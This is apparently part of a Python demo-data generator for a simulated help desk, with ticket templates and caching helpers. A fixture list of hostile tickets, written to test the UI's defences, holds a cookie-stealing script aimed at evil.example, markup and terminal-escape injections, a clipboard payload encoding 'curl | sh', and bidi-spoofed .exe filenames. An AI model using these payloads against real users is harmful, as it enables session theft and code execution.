            "Hi {first},\n\nApologies for this. I can see the duplicate card payment; the "
            "refund of £{amount} has been issued and should reach your account in 3-5 working "
            "days.",
            "Hi {first},\n\nYou're right, the seat change was not applied to the subscription. "
            "I've corrected it and attached a credit note; the next invoice will reflect 18 "
            "seats.",
        ),
        (
            "Payment gateway retried after a timeout - duplicate capture.",
            "Seat reduction request was in ticket from last month but never actioned.",
        ),
        (
            "Hi {first},\n\nThe credit note has been applied. Closing this ticket - thanks for "
            "flagging it.",
        ),
        ("Refund approved by Rahul.", "Check other accounts hit by the gateway retry."),
        ("Reconciled payments with gateway report",),
    ),
    Topic(
        "plan",
        (3,),
        (T_REQUEST, T_BILLING),
        4,
        ("billing", "upgrade"),
        ("Add 5 more user licences", "Switch to annual billing", "Quote for extra licences"),
        (
            "Hi,\n\nWe're growing and would like to add 5 more user licences from next month. "
            "Could you send a quote?\n\nThanks,\n{first}",
            "Hello,\n\nWe'd like to switch from monthly to annual billing to get the discount. "
            "What's the process?\n\n{first}",
        ),
        ("Quote approved - please go ahead.", "Thanks, all sorted."),
        (
            "Hi {first},\n\nHappy to help. Five additional licences on your current plan come "
            "to £{amount} per month, pro-rated for this month. Shall I apply them?",
            "Hi {first},\n\nSwitching to annual gives 15% off. I've prepared the change to "
            "start at your next renewal; please confirm and I'll apply it.",
        ),
        ("Customer eligible for partner discount as well.",),
        (
            "Hi {first},\n\nDone - the new licences are active and your next invoice will show "
            "the change.",
        ),
        ("Quote sent.",),
        ("Prepared quote",),
    ),
    Topic(
        "cancel",
        (3,),
        (T_BILLING,),
        2,
        ("billing", "churn-risk"),
        ("Cancel our subscription", "Refund for unused months"),
        (
            "Hello,\n\nWe've decided to move our IT in-house and would like to cancel at the end "
            "of the current term. Please confirm the notice period and any refund for prepaid "
            "months.\n\nRegards,\n{first}",
        ),
        ("Understood. Please proceed.",),
        (
            "Hi {first},\n\nSorry to see you go. Your contract has a 30-day notice period, so "
            "the last billing date is {date}. Prepaid months after that will be refunded.",
        ),
        ("Account manager notified - retention call scheduled.",),
        (
            "Hi {first},\n\nThe cancellation is confirmed and the refund for the unused months "
            "has been processed.",
        ),
        ("Churn risk flagged to account management.",),
        ("Processed cancellation",),
    ),
    Topic(
        "onboarding",
        (1,),
        (T_REQUEST,),
        6,
        ("onboarding", "new-starter"),
        (
            "New starter on Monday - accounts needed",
            "Leaver: please disable account on Friday",
            "Set up accounts and laptop for new hire",
        ),
        (
            "Hi,\n\nWe have a new starter, {person}, on Monday. They need:\n- email account\n- "
            "access to the Finance shared drive\n- a laptop with Office\n\nManager is me.\n\n"
            "Thanks,\n{first}",
            "Hello,\n\n{person} leaves on Friday. Please disable their account at 5pm and "
            "forward their email to me for 30 days.\n\n{first}",
        ),
        ("Could they also get access to the Sales Teams channel?", "All working, thanks."),
        (
            "Hi {first},\n\nAll set up: the account is created, the laptop is imaged and will "
            "be delivered on Friday. Temporary credentials will go to you by SMS on Monday "
            "at 8am.",
            "Hi {first},\n\nScheduled: the account will be disabled at 17:00 on Friday and "
            "mail forwarded to you until {date}.",
        ),
        ("Licence count now at 24/25 - warn them before next starter.",),
        ("Hi {first},\n\nEverything for the new starter is done. Closing this request.",),
        ("HR confirmation received.",),
        ("Created accounts and groups", "Imaged and shipped laptop"),
    ),
    Topic(
        "laptop",
        (1,),
        (T_INCIDENT,),
        5,
        ("hardware", "laptop"),
        (
            "Laptop asks for BitLocker recovery key",
            "Blue screen after docking",
            "Recovery key prompt after BIOS update",
        ),
        (
            "Hi,\n\nMy laptop is asking for a BitLocker recovery key after a BIOS update "
            "popped up this morning. I can't get past that screen.\n\n{first}",
            "Hello,\n\nMy laptop crashes with a blue screen (DRIVER_POWER_STATE_FAILURE) every "
            "time I plug it into the dock.\n\n{first}",
        ),
        ("Key worked, I'm in. Thank you!", "No crash since the update, thanks."),
        (
            "Hi {first},\n\nI'll read the 48-digit recovery key to you over the phone - could "
            "you call the service desk on 0117 496 0000 and quote ticket {ticket}?",
            "Hi {first},\n\nThis is a known issue with the dock firmware. We've pushed the "
            "updated dock driver; please reboot once while docked.",
        ),
        ("Recovery key retrieved from Entra ID for device {host}.",),
        ("Hi {first},\n\nGlad it's sorted. Closing the ticket.",),
        ("BIOS update triggers TPM reseal - suspend BitLocker before updates.",),
        ("Phone call to read recovery key", "Pushed dock firmware"),
    ),
    Topic(
        "backup",
        (5,),
        (T_INCIDENT,),
        4,
        ("backup", "monitoring"),
        (
            "Backup job failed for FS01",
            "Restore request: deleted folder on shared drive",
            "Backup alert: FS01-Nightly failed",
        ),
        (
            "Hi,\n\nWe got the alert email that last night's backup job for FS01 failed:\n\n"
            "  Job 'FS01-Nightly' finished with Failed: VSS snapshot timeout\n\nCan you check?\n\n"
            "{first}",
            "Hello,\n\nSomeone deleted the folder \\\\fs01\\Projects\\2024\\Tenders yesterday "
            "afternoon. Could you restore it from last night's backup?\n\nThanks,\n{first}",
        ),
        ("Thanks - tonight's job ran fine.", "Folder is back, brilliant, thank you."),
        (
            "Hi {first},\n\nThe VSS writer on FS01 was stuck. I've restarted the service and "
            "triggered a manual backup, which completed successfully.",
            "Hi {first},\n\nRestore is running; the folder is ~4 GB so it'll take about 20 "
            "minutes. It will be restored to its original location.",
        ),
        ("VSS writer 'SqlServerWriter' in failed state; restarted.",),
        ("Hi {first},\n\nThe restore completed. Closing this ticket.",),
        ("Backup repository at 81% - plan expansion.",),
        ("Restarted VSS writer and reran backup", "Restored folder from backup"),
    ),
    Topic(
        "phishing",
        (2,),
        (T_INCIDENT,),
        4,
        ("security", "phishing"),
        (
            "Suspicious email - possible phishing",
            "I clicked a link in a fake invoice email",
            "Fake bank email asking to verify a payee",
        ),
        (
            'Hi,\n\nI received an email claiming to be from our bank asking me to "verify the '
            "payee\" via a link. It looks dodgy. I haven't clicked anything. Forwarding it as an "
            "attachment.\n\n{first}",
            "Hello,\n\nI'm worried - I clicked a link in an invoice email and entered my "
            "password before realising it was fake. What should I do?\n\n{first}",
        ),
        ("Thanks for acting so quickly.", "Done - I've changed it and set up the app."),
        (
            "Hi {first},\n\nThank you for reporting this - it is phishing. We've blocked the "
            "sender domain and removed the message from all mailboxes.",
            "Hi {first},\n\nWe've reset your password, revoked all sessions and checked the "
            "sign-in logs: no successful sign-in from the attacker. Please set up the "
            "Authenticator app when prompted.",
        ),
        (
            "Sender domain registered 3 days ago. Blocked in tenant allow/block list.",
            "Sign-in from 185.220.x.x blocked by conditional access - good.",
        ),
        (
            "Hi {first},\n\nAll clear. Closing the ticket - please keep reporting anything "
            "suspicious.",
        ),
        ("Security incident log updated.", "Notify other users at this org?"),
        ("Purged phishing message tenant-wide", "Reviewed sign-in logs"),
    ),
    Topic(
        "mobile",
        (2,),
        (T_BUG,),
        4,
        ("mobile", "ios"),
        (
            "Mobile app crashes on launch",
            "Harbourline Mobile {version} crashes immediately",
            "App closes as soon as I open it",
        ),
        (
            "Hi,\n\nThe Harbourline Mobile app crashes immediately on launch since updating to "
            "{version}. Phone is on {os}. Reinstalling didn't help.\n\n{first}",
        ),
        ("Still crashing on the TestFlight build.", "New version works, thanks!"),
        (
            "Hi {first},\n\nThanks - we can see the crash reports. It affects devices with the "
            "system language set to one we don't ship translations for. A fix is in review with "
            "the App Store.",
        ),
        ("Crash in LocaleFormatter - null bundle for pt-PT.",),
        ("Hi {first},\n\nVersion 5.3.4 is live in the stores and fixes the crash. Closing.",),
        ("Crashlytics issue #4471.",),
        ("Analysed crash logs",),
    ),
    Topic(
        "feature",
        (1, 2),
        (T_FEEDBACK,),
        4,
        ("feature-request",),
        (
            "Feature request: dark mode in the portal",
            "Suggestion: bulk edit for assets",
            "Dark mode for late shifts?",
        ),
        (
            "Hi team,\n\nSmall suggestion: a dark mode in the portal would be great for those "
            "of us who work late. Many of our staff have asked.\n\nCheers,\n{first}",
            "Hello,\n\nIt would save us hours if we could edit the location of many assets at "
            "once instead of one by one.\n\n{first}",
        ),
        ("Thanks for passing it on.",),
        (
            "Hi {first},\n\nThanks for the suggestion! I've added it to our product feedback "
            "board with your use case. I can't promise a date, but it's been upvoted by other "
            "customers too.",
        ),
        ("Feedback board item FB-77.",),
        ("Hi {first},\n\nI'll close this ticket for now - we'll email you if it's scheduled.",),
        ("Logged on feedback board.",),
        ("Logged feature request",),
    ),
    Topic(
        "outage",
        (5, 2),
        (T_INCIDENT,),
        3,
        ("outage", "website"),
        (
            "Website down - 502 Bad Gateway",
            "Internet down at our office",
            "URGENT: website returning 502",
        ),
        (
            'URGENT\n\nOur public website {host} is returning "502 Bad Gateway" for everyone. '
            "It's our busiest day. Please call me on my mobile.\n\n{first}",
            "Hi,\n\nThe internet at our office has been down since 08:15. The router lights are "
            "orange.\n\n{first}",
        ),
        ("It's back up, thank you for the quick response.",),
        (
            "Hi {first},\n\nWe're on it. The web server's PHP-FPM pool is exhausted; we're "
            "restarting it and adding capacity. Next update in 15 minutes.",
            "Hi {first},\n\nThe ISP has confirmed a fibre cut in your area; they estimate repair "
            "by 13:00. We've switched you to the 4G backup link in the meantime.",
        ),
        (
            "PHP-FPM max_children=10 far too low for traffic; raised to 40.",
            "ISP fault ref OR-558231.",
        ),
        (
            "Hi {first},\n\nService is fully restored. We'll send a short incident report by "
            "tomorrow.",
        ),
        ("Major incident - post-mortem needed.",),
        ("Incident response and capacity change", "Liaised with ISP"),
    ),
    Topic(
        "mfa",
        (1,),
        (T_REQUEST,),
        4,
        ("mfa", "account"),
        (
            "Lost phone - can't do MFA",
            "Locked out of MFA after losing my phone",
            "Can't approve sign-in prompts (phone lost)",
        ),
        (
            "Hi,\n\nI lost my phone on the train and can't approve MFA prompts. I'm using a "
            "colleague's laptop to send this.\n\n{first}",
        ),
        ("Got a new phone now.", "All set, thanks."),
        (
            "Hi {first},\n\nI've removed the old device and issued a one-time temporary access "
            "pass valid for 8 hours. Please call us so we can verify your identity and give "
            "you the code.",
        ),
        ("Identity verified via manager {person}.",),
        ("Hi {first},\n\nYour new phone is registered. Closing this ticket.",),
        ("Old device removed from Entra ID.",),
        ("Reset MFA methods",),
    ),
    Topic(
        "permissions",
        (1,),
        (T_REQUEST,),
        4,
        ("permissions", "sharepoint"),
        (
            "Access to Finance shared drive",
            "Finance drive access please",
            "Access request: Finance-RW",
        ),
        (
            "Hi,\n\nCould you give me access to the Finance shared drive? {person} approved it "
            "(cc'd).\n\nThanks,\n{first}",
        ),
        ("Approved from my side.", "Works now, thank you."),
        (
            "Hi {first},\n\nI've added you to the Finance-RW group. It can take up to an hour "
            "to apply; signing out and back in speeds it up.",
        ),
        ("Approval received from data owner.",),
        ("Hi {first},\n\nGreat - closing this request.",),
        ("Group membership change logged.",),
        ("Updated group membership",),
    ),
    Topic(
        "certificate",
        (5,),
        (T_REQUEST, T_INCIDENT),
        2,
        ("ssl", "security"),
        ("SSL certificate expiring in 7 days", "Certificate for our site expires next week"),
        (
            "Hi,\n\nWe got a monitoring email saying the certificate for {host} expires in 7 "
            "days. Is renewal in hand?\n\n{first}",
        ),
        ("Thanks!",),
        (
            "Hi {first},\n\nYes - the renewal is in progress. The new certificate has been "
            "issued and will be installed tonight during the maintenance window.",
        ),
        ("ACME renewal failing due to CAA record - fixed DNS.",),
        ("Hi {first},\n\nThe new certificate is installed and valid until next year.",),
        ("Renewal tracked in change CHG-3310.",),
        ("Renewed and installed certificate",),
    ),
    Topic(
        "gdpr",
        (1,),
        (T_CASE,),
        2,
        ("gdpr", "privacy"),
        (
            "GDPR: what data do you hold on a former employee?",
            "Subject access request from former employee",
        ),
        (
            "Hello,\n\nA former employee has asked us to confirm what personal data you hold "
            "about them in your systems on our behalf. Could you help us respond within the "
            "statutory deadline?\n\n{first}",
        ),
        ("Thank you, that's what we needed.",),
        (
            "Hi {first},\n\nOf course. We hold: their mailbox (retained 90 days after leaving), "
            "device records and ticket history. We'll export these securely by {date}.",
        ),
        ("DPO informed. Deadline tracked.",),
        ("Hi {first},\n\nThe export has been shared via secure link. Closing this ticket.",),
        ("SAR deadline: 30 days from receipt.",),
        ("Compiled SAR export",),
    ),
)
TOPIC_WEIGHTS = tuple(t.weight for t in TOPICS)

GENERIC_REPLIES = (
    "Hi {first},\n\nThanks for getting in touch. I'm looking into this now and will update "
    "you shortly.",
    "Hi {first},\n\nJust checking in - did the steps above help? If we don't hear back in "
    "3 working days we'll close the ticket, but you can reopen it by replying.",
    "Hi {first},\n\nCould you send a screenshot of the error and the exact time it happened? "
    "That will help us find it in the logs.",
)
GENERIC_FOLLOWUPS = (
    "Thanks for the quick reply. I'll try that and let you know.",
    "Hi, any update on this please? It's affecting the whole team.",
    "Attached the screenshot you asked for. It happened at about 10:35.",
    "Sorry for the delay - I was out of office. Still an issue I'm afraid.",
)
GENERIC_PRIVATES = (
    "Escalating to Tier 2 - beyond first-line fix.",
    "Customer is on the managed plan, so this is covered - no charge.",
    "Asked in #ops channel whether anyone else is seeing this.",
)
GENERIC_NOTES = (
    "Called the customer - no answer, left voicemail.",
    "Customer prefers phone contact after 3pm.",
    "Possible duplicate of an earlier ticket from the same site.",
    "Waiting on vendor case VND-{vendor}.",
    "Remember to update the asset register once closed.",
)
CLOSING_LINE = (
    "\n\nAs this should sort it, I'll mark the ticket as resolved - just reply to this "
    "email if anything still isn't working."
)
SIGNATURE = "\n\nKind regards,\n{agent_full}\n{team} | " + COMPANY

# Tickets carrying content that must never reach a terminal as markup or escapes. Real
# desks receive such text (pasted logs, signatures, malicious senders); the demo shows it
# so the UI's defences are exercised. ESC-based sequences are stripped by the server's
# XML cleaning (C0 controls) on the wire; their 8-bit C1 forms and bidi controls are not.
OSC52_PAYLOAD = "Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS9wIHwgc2g="  # base64 "curl -s ... | sh"


@dataclass(frozen=True, slots=True)
class Hostile:
    subject: str
    body: str
    fullname: str = ""
    html: bool = False
    attachment: str = ""


HOSTILE: tuple[Hostile, ...] = (
    Hostile(
        "[bold red]URGENT[/bold red] payroll export failing - "
        "[link=https://evil.example/x]details[/link]",
        "Hi,\n\nPayroll export fails again. My signature tool adds formatting, sorry:\n"
        "[b]Bold[/b] [i]italic[/i] [/] [red on white]red[/]\n\n"
        "[@click=app.quit]Click here to keep your session[/]\n\nThanks,\nFinance",
    ),
    Hostile(
        "Can't sign in [@click=app.quit]Reset session[/]",
        '<div dir="ltr"><p>Hello,</p><p onclick="alert(1)">I cannot sign in since this '
        'morning.</p><script>document.location="https://evil.example/?c="+document.cookie'
        '</script><p><a href="javascript:alert(document.domain)">Click to verify</a></p>'
        "<p>[@click=app.bell]bell[/] [bold]not bold[/bold]</p></div>",
        fullname="[reverse]Mallory[/reverse] Ops",
        html=True,
    ),
    Hostile(
        "Printer shows \x9b31mPAPER JAM\x9b0m on every job",
        "The printer display log I copied:\n\n\x1b[2J\x1b[H\x1b[31mRED ALERT\x1b[0m\n"
        "\x9b2J\x9b1;1H\x9b5mBLINKING\x9b0m\n\nCan someone come and look?",
    ),
    Hostile(
        "Clipboard weirdness after pasting from the portal",
        "When I paste the activation code I get this:\n\n"
        f"\x1b]52;c;{OSC52_PAYLOAD}\x07\n"
        f"\x9d52;c;{OSC52_PAYLOAD}\x9c\n"
        "\x1b]0;PWNED\x07\x9d0;PWNED TITLE\x9c\n"
        "\x9d8;;https://evil.example\x9cinnocent link\x9d8;;\x9c\n\nIs my PC infected?",
    ),
    Hostile(
        "Refund request: invoice_2024\u202efdp.exe attached",
        "Please refund the attached invoice: invoice_2024\u202efdp.exe\n"
        "Reference: \u2066ABC-\u202e321\u202c-999\u2069 (copied from your portal)\n"
        "Amount: \u200f€1,250.00\u200e",
        attachment="invoice_2024\u202efdp.exe",
    ),
    Hostile(
        "Weird characters:\x00 null\x07 bell \u200bzero-width \ufeffBOM and ]]> CDATA end",
        'Config snippet that fails to import:\n\n  if (a[b[0]]>1) { x = "]]>"; }\n'
        "  <![CDATA[ nested ]]>\n\x08\x08\x08\x7f backspaces and DEL\n"
        "Tab\tand\r\ncarriage return.",
    ),
)

# A 1x1 transparent PNG: attachments stay tiny but are real files of their type.
PNG_1X1 = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)

# --------------------------------------------------------------------------------------
# Lazy per-ticket children
# --------------------------------------------------------------------------------------

T = TypeVar("T")


class _HasId(Protocol):
    @property
    def id(self) -> int: ...


R = TypeVar("R", bound=_HasId)


class LazyChildren(Generic[T]):
    """Children of tickets, generated on demand and kept once a ticket is written.

    Reads of pristine tickets go through a bounded LRU cache (regenerating an evicted
    entry gives identical data, since generation is a pure function of seed and ticket).
    """

    def __init__(self, generate: Callable[[Ticket], T], cache_size: int = 2048) -> None:
        self._generate = generate
        self._cache: OrderedDict[int, T] = OrderedDict()
        self._cache_size = cache_size
        self._owned: dict[int, T] = {}

    def get(self, ticket: Ticket) -> T:
        owned = self._owned.get(ticket.id)
        if owned is not None:
            return owned
        cached = self._cache.get(ticket.id)
        if cached is not None:
            self._cache.move_to_end(ticket.id)
            return cached
        value = self._generate(ticket)
        self._cache[ticket.id] = value
        if len(self._cache) > self._cache_size:
            self._cache.popitem(last=False)
        return value

    def peek(self, ticket: Ticket) -> T:
        """Like get, without filling the cache (for scans over every ticket)."""
        owned = self._owned.get(ticket.id)
        if owned is not None:
            return owned
        cached = self._cache.get(ticket.id)
        return cached if cached is not None else self._generate(ticket)

    def own(self, ticket: Ticket) -> T:
        """The ticket's children, kept for good (to be mutated)."""
        owned = self._owned.get(ticket.id)
        if owned is None:
            owned = self._cache.pop(ticket.id, None)
            if owned is None:
                owned = self._generate(ticket)
            self._owned[ticket.id] = owned
        return owned

    def drop(self, ticket_id: int) -> None:
        self._owned.pop(ticket_id, None)
        self._cache.pop(ticket_id, None)


class IdBlocks:
    """Global IDs of one child kind: each generated ticket owns a contiguous block.

    Finding which ticket a child ID belongs to must not require generating every
    ticket's children, so block starts are kept in an array searched by bisection.
    IDs of children created later come after every block.
    """

    def __init__(self) -> None:
        # Machine-int arrays: 100 000 tickets cost 1.6 MB here instead of boxed ints.
        self.starts = array("q")
        self.owners = array("q")
        self.next_id = 1
        self.created: dict[int, int] = {}

    def reserve(self, ticket_id: int, count: int) -> None:
        """Give a generated ticket (reserved in ascending ticket order) ``count`` IDs."""
        if count:
            self.starts.append(self.next_id)
            self.owners.append(ticket_id)
            self.next_id += count

    def base_of(self, ticket_id: int) -> int:
        """First ID of the block reserved for ``ticket_id`` (0 when it has none)."""
        index = bisect.bisect_left(self.owners, ticket_id)
        if index < len(self.owners) and self.owners[index] == ticket_id:
            return self.starts[index]
        return 0

    def new_id(self, ticket_id: int) -> int:
        rid = self.next_id
        self.next_id += 1
        self.created[rid] = ticket_id
        return rid

    def owner(self, rid: int) -> int | None:
        if rid in self.created:
            return self.created[rid]
        index = bisect.bisect_right(self.starts, rid) - 1
        if index < 0 or rid >= self.next_id:
            return None
        return self.owners[index]


def _pick(rng: random.Random, seq: tuple[T, ...] | list[T]) -> T:
    """rng.choice without its rejection sampling: the hot path of building 100k tickets."""
    return seq[int(rng.random() * len(seq))]


def _sample(rng: random.Random, seq: tuple[T, ...], k: int) -> list[T]:
    """k distinct items (rng.sample's ABC checks dominate a 100k-ticket build)."""
    pool = list(seq)
    for i in range(k):
        j = i + int(rng.random() * (len(pool) - i))
        pool[i], pool[j] = pool[j], pool[i]
    return pool[:k]


class _Weighted(Generic[T]):
    """A weighted choice with precomputed cumulative weights (rng.choices is slow)."""

    def __init__(self, items: Iterable[T], weights: Iterable[float]) -> None:
        self.items = tuple(items)
        cumulative: list[float] = []
        total = 0.0
        for weight in weights:
            total += weight
            cumulative.append(total)
        self.cumulative = cumulative
        self.total = total

    def pick(self, rng: random.Random) -> T:
        # random() < 1, so the point is below the last cumulative weight (== total).
        return self.items[bisect.bisect_right(self.cumulative, rng.random() * self.total)]


def stable_hash(*parts: int) -> int:
    """A cheap deterministic hash of small integers (independent of PYTHONHASHSEED)."""
    value = 0x9E3779B97F4A7C15
    for part in parts:
        value ^= part & 0xFFFFFFFFFFFFFFFF
        value = (value * 0xBF58476D1CE4E5B9) & 0xFFFFFFFFFFFFFFFF
        value ^= value >> 31
    return value


HTML_TAG = re.compile(
    r"<\s*/?\s*(p|br|div|span|a|b|i|u|strong|em|ul|ol|li|table|tr|td|"
    r"html|body|h[1-6]|blockquote|pre|img|font)\b[^>]*>",
    re.IGNORECASE,
)


def looks_like_html(text: str) -> bool:
    """The server's HTML detection for new posts: any common HTML tag."""
    return HTML_TAG.search(text) is not None


def _escape_html(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def text_to_html(text: str) -> str:
    """Render a plain message the way a mail client's HTML part would carry it."""
    blocks: list[str] = []
    for paragraph in text.split("\n\n"):
        lines = paragraph.split("\n")
        if all(line.startswith("- ") for line in lines):
            items = "".join(f"<li>{_escape_html(line[2:])}</li>" for line in lines)
            blocks.append(f"<ul>{items}</ul>")
        else:
            blocks.append("<p>" + "<br />".join(_escape_html(line) for line in lines) + "</p>")
    return '<div dir="ltr">' + "\n".join(blocks) + "<div>&nbsp;</div></div>"


def format_date(epoch: int) -> str:
    return time.strftime("%d %B %Y", time.gmtime(epoch)).lstrip("0")


def parse_mdy(value: str) -> int | None:
    """A custom-field date in the helpdesk format m/d/Y, as epoch seconds (UTC)."""
    match = re.fullmatch(r"\s*(\d{1,2})/(\d{1,2})/(\d{4})\s*", value)
    if match is None:
        return None
    month, day, year = (int(g) for g in match.groups())
    try:
        return calendar.timegm((year, month, day, 0, 0, 0))
    except (ValueError, OverflowError):
        return None


class _SafeDict(dict[str, str]):
    def __missing__(self, key: str) -> str:
        return "{" + key + "}"


# --------------------------------------------------------------------------------------
# The desk
# --------------------------------------------------------------------------------------


class KayakoDesk:
    """The whole simulated help desk: lookups, users, tickets and their children."""

    def __init__(self, *, seed: int, now: int) -> None:
        self.seed = seed
        self.now = now
        self.clock: Callable[[], int] = lambda: int(time.time())
        self.departments = {d.id: d for d in DEPARTMENTS}
        self.statuses = {s.id: s for s in STATUSES}
        self.priorities = {p.id: p for p in PRIORITIES}
        self.types = {t.id: t for t in TYPES}
        self.staff_groups = {g.id: g for g in STAFF_GROUPS}
        self.staff = {s.id: s for s in STAFF}
        self.user_groups = {g.id: g for g in USER_GROUPS}
        self.template_groups = {g.id: g for g in TEMPLATE_GROUPS}
        self.workflows = {w.id: w for w in WORKFLOWS}
        self.organizations: dict[int, Organization] = {}
        self.users: dict[int, User] = {}
        self.user_notes: list[UserNote] = []
        self.cf_groups: dict[int, CustomFieldGroup] = {}
        self.cf_fields: dict[int, CustomField] = {}
        self.cf_options: dict[int, CustomFieldOption] = {}
        self.tickets: dict[int, Ticket] = {}
        self.next_ticket_id = 1
        self._by_mask: dict[str, int] = {}
        self._by_email: dict[str, int] | None = None
        self.post_ids = IdBlocks()
        self.note_ids = IdBlocks()
        self.timetrack_ids = IdBlocks()
        self.attachment_ids = IdBlocks()
        self.posts: LazyChildren[list[Post]] = LazyChildren(self._gen_posts)
        self.notes: LazyChildren[list[TicketNote]] = LazyChildren(self._gen_notes)
        self.timetracks: LazyChildren[list[TimeTrack]] = LazyChildren(self._gen_timetracks)
        self.attachments: LazyChildren[list[Attachment]] = LazyChildren(self._gen_attachments)
        self.custom_values: LazyChildren[dict[int, CustomValue]] = LazyChildren(
            self._gen_custom_values
        )

    # ---- lookups ----------------------------------------------------------------------

    def staff_name(self, staff_id: int) -> str:
        member = self.staff.get(staff_id)
        return member.fullname if member else ""

    def find_ticket(self, ref: str) -> Ticket | None:
        """By numeric ID or display mask (case-insensitive), as the server looks up."""
        text = ref.strip()
        if re.fullmatch(r"[+-]?\d+(\.\d*)?", text):
            return self.tickets.get(int(float(text)))
        tid = self._by_mask.get(text.upper())
        return self.tickets.get(tid) if tid is not None else None

    def user_by_email(self, email: str) -> User | None:
        if self._by_email is None:
            self._by_email = {}
            for user in self.users.values():
                for address in user.emails:
                    self._by_email.setdefault(address.lower(), user.id)
        uid = self._by_email.get(email.strip().lower())
        return self.users.get(uid) if uid is not None else None

    def organization_of(self, user_id: int) -> Organization | None:
        user = self.users.get(user_id)
        if user is None:
            return None
        return self.organizations.get(user.userorganizationid)

    def linked_groups(self, ticket: Ticket) -> list[CustomFieldGroup]:
        """Custom field groups shown for a ticket: those linked to its department, plus
        any group holding a value for it."""
        values = self.custom_values.get(ticket)
        with_values = {self.cf_fields[fid].groupid for fid in values if fid in self.cf_fields}
        return [
            group
            for group in self.cf_groups.values()
            if ticket.departmentid in group.departmentids or group.id in with_values
        ]

    def find_child(
        self, rid: int, blocks: IdBlocks, store: LazyChildren[list[R]]
    ) -> tuple[int | None, R | None]:
        """(owning ticket id, record) of child ``rid``; (None, None) when it is gone."""
        owner = blocks.owner(rid)
        ticket = self.tickets.get(owner) if owner is not None else None
        if ticket is None:
            return None, None
        for record in store.get(ticket):
            if record.id == rid:
                return owner, record
        return None, None

    def user_notes_by(self, linktype: str) -> dict[int, list[UserNote]]:
        """User (or organisation) notes grouped by the user (organisation) they are on."""
        grouped: dict[int, list[UserNote]] = {}
        for note in self.user_notes:
            if note.linktype == linktype:
                grouped.setdefault(note.linkid, []).append(note)
        return grouped

    # ---- lazily generated children ----------------------------------------------------

    def _rng(self, ticket: Ticket, kind: str) -> random.Random:
        # String seeds hash through SHA-512: stable across runs and Python processes.
        return random.Random(f"kayako:{self.seed}:{kind}:{ticket.id}")

    def _post_times(self, ticket: Ticket) -> list[int]:
        n = ticket.n_posts
        if n <= 1:
            return [ticket.creationtime] * n
        span = ticket.lastactivity - ticket.creationtime
        return [ticket.creationtime + span * k // (n - 1) for k in range(n)]

    def post_is_staff(self, ticket: Ticket, index: int) -> bool:
        return (index + ticket.first_by_staff) % 2 == 1

    def replier_for(self, ticket: Ticket) -> Staff:
        if ticket.ownerstaffid in self.staff:
            return self.staff[ticket.ownerstaffid]
        pool = DEPARTMENT_STAFF.get(ticket.departmentid, (1,))
        return self.staff[pool[ticket.id % len(pool)]]

    def _placeholders(self, ticket: Ticket, rng: random.Random) -> _SafeDict:
        user = self.users.get(ticket.userid)
        org = self.organizations.get(user.userorganizationid) if user else None
        agent = self.replier_for(ticket)
        first = ticket.fullname.split(" ")[0] if ticket.fullname else "there"
        return _SafeDict(
            first=first,
            email=ticket.email,
            org=org.name if org else "our",
            agent=agent.firstname,
            agent_full=agent.fullname,
            team=self.staff_groups[agent.staffgroupid].title,
            version=rng.choice(VERSIONS),
            os=rng.choice(OSES),
            browser=rng.choice(BROWSERS),
            date=format_date(ticket.creationtime - rng.randrange(1, 6) * DAY),
            ticket=ticket.displayid,
            host=(org.domain if org else "harbourline-client.example"),
            invoice=f"INV-{100000 + ticket.id * 7 % 900000:06d}",
            amount=f"{rng.randrange(40, 2400)}.{rng.choice(('00', '50', '99', '20'))}",
            person=f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)}",
            month=time.strftime("%B", time.gmtime(ticket.creationtime)),
            vendor=str(rng.randrange(10000, 99999)),
        )

    def _gen_posts(self, ticket: Ticket) -> list[Post]:
        if not ticket.seeded:
            return []
        rng = self._rng(ticket, "posts")
        topic = TOPICS[ticket.topic]
        ph = self._placeholders(ticket, rng)
        times = self._post_times(ticket)
        agent = self.replier_for(ticket)
        resolved = bool(ticket.isresolved)
        opening = ticket.variant % len(topic.openings)
        start = self.post_ids.base_of(ticket.id)
        n_att = ticket.n_attachments
        user = self.users.get(ticket.userid)
        posts: list[Post] = []
        staff_posts_seen = 0
        for index, dateline in enumerate(times):
            is_staff = self.post_is_staff(ticket, index)
            last = index == len(times) - 1
            if is_staff:
                staff_posts_seen += 1
                private = 0
                if last and resolved and staff_posts_seen > 1:
                    text = rng.choice(topic.resolutions)
                elif staff_posts_seen == 1:
                    text = topic.replies[opening % len(topic.replies)]
                    if last and resolved:
                        text += CLOSING_LINE
                elif rng.random() < 0.6:
                    text = rng.choice(topic.replies + GENERIC_REPLIES[:1])
                else:
                    text = rng.choice(GENERIC_REPLIES)
                if not last and rng.random() < 0.14:
                    private = 1
                    text = rng.choice(topic.privates + GENERIC_PRIVATES)
                    body = text.format_map(ph)
                else:
                    body = (text + SIGNATURE).format_map(ph)
                html = 1 if rng.random() < 0.3 else 0
                if html:
                    body = text_to_html(body)
                posts.append(
                    Post(
                        id=start + index,
                        ticketid=ticket.id,
                        dateline=dateline,
                        userid=0,
                        fullname=agent.fullname,
                        email=agent.email,
                        emailto="",
                        ipaddress="",
                        hasattachments=0,
                        creator=CREATOR_STAFF,
                        isthirdparty=0,
                        ishtml=html,
                        isemailed=0 if private else 1,
                        staffid=agent.id,
                        issurveycomment=0,
                        contents=body,
                        isprivate=private,
                    )
                )
                continue
            if index == 0 or (index == 1 and ticket.first_by_staff):
                text = topic.openings[opening]
            elif rng.random() < 0.6:
                text = rng.choice(topic.followups)
            else:
                text = rng.choice(GENERIC_FOLLOWUPS)
            body = text.format_map(ph)
            if index == 0 and ticket.hostile >= 0:
                body = HOSTILE[ticket.hostile].body
            fullname, email = ticket.fullname, ticket.email
            creator, userid = CREATOR_USER, ticket.userid
            if index > 1 and rng.random() < 0.06 and user is not None:
                # A colleague on CC answers instead of the requester.
                colleague = f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)}"
                domain = email.split("@")[-1]
                fullname = colleague
                email = colleague.lower().replace(" ", ".").replace("'", "") + "@" + domain
                creator, userid = CREATOR_CC, 0
            html = ticket.html_customer
            if ticket.hostile >= 0 and index == 0:
                html = 1 if HOSTILE[ticket.hostile].html else 0
            elif html:
                body = text_to_html(body)
            posts.append(
                Post(
                    id=start + index,
                    ticketid=ticket.id,
